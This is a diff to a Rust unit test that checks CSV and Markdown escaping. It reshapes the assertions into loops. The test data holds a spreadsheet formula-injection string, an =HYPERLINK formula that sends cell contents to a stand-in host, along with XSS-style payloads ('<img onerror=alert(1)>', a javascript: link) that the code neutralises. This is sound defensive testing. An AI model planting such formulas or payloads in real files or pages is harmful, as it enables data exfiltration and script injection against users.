@@ -565,32 +565,37 @@ mod tests {
 
     #[test]
     fn escaping() {
-        assert_eq!(csv_cell("a,b"), "\"a,b\"");
-        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
-        // A formula from a file stays text; numbers and the empty-value dash stay as they are.
-        assert_eq!(
-            csv_cell("=HYPERLINK(\"http://x/?\"&A1,\"open\")"),
-            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\""
-        );
-        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
-        assert_eq!(csv_cell("+1+1"), "'+1+1");
-        assert_eq!(csv_cell("-1.5e-3"), "-1.5e-3");
-        assert_eq!(csv_cell("+2"), "+2");
-        assert_eq!(csv_cell("-"), "-");
-        assert_eq!(csv_cell("plain"), "plain");
-        assert_eq!(markdown_text("a|b\nc"), "a\\|b c");
-        // Markup from a file stays text: no HTML, no link, no code span.
-        assert_eq!(
-            markdown_text("<img src=x onerror=alert(1)>"),
-            "&lt;img src=x onerror=alert(1)>"
-        );
-        assert_eq!(
-            markdown_text("[x](javascript:alert(1)) `c` \\"),
-            "\\[x\\](javascript:alert(1)) \\`c\\` \\\\"
-        );
-        assert_eq!(
-            markdown_text("llvmpipe (LLVM 15.0.6) ±5%"),
-            "llvmpipe (LLVM 15.0.6) ±5%"
-        );
+        for (cell, written) in [
+            ("a,b", "\"a,b\""),
+            ("say \"hi\"", "\"say \"\"hi\"\"\""),
+            // A formula from a file stays text; numbers and the empty-value dash stay as they are.
+            (
+                "=HYPERLINK(\"http://x/?\"&A1,\"open\")",
+                "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"",
+            ),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("+1+1", "'+1+1"),
+            ("-1.5e-3", "-1.5e-3"),
+            ("+2", "+2"),
+            ("-", "-"),
+            ("plain", "plain"),
+        ] {
+            assert_eq!(csv_cell(cell), written);
+        }
+        for (text, written) in [
+            ("a|b\nc", "a\\|b c"),
+            // Markup from a file stays text: no HTML, no link, no code span.
+            (
+                "<img src=x onerror=alert(1)>",
+                "&lt;img src=x onerror=alert(1)>",
+            ),
+            (
+                "[x](javascript:alert(1)) `c` \\",
+                "\\[x\\](javascript:alert(1)) \\`c\\` \\\\",
+            ),
+            ("llvmpipe (LLVM 15.0.6) ±5%", "llvmpipe (LLVM 15.0.6) ±5%"),
+        ] {
+            assert_eq!(markdown_text(text), written);
+        }
     }
 }
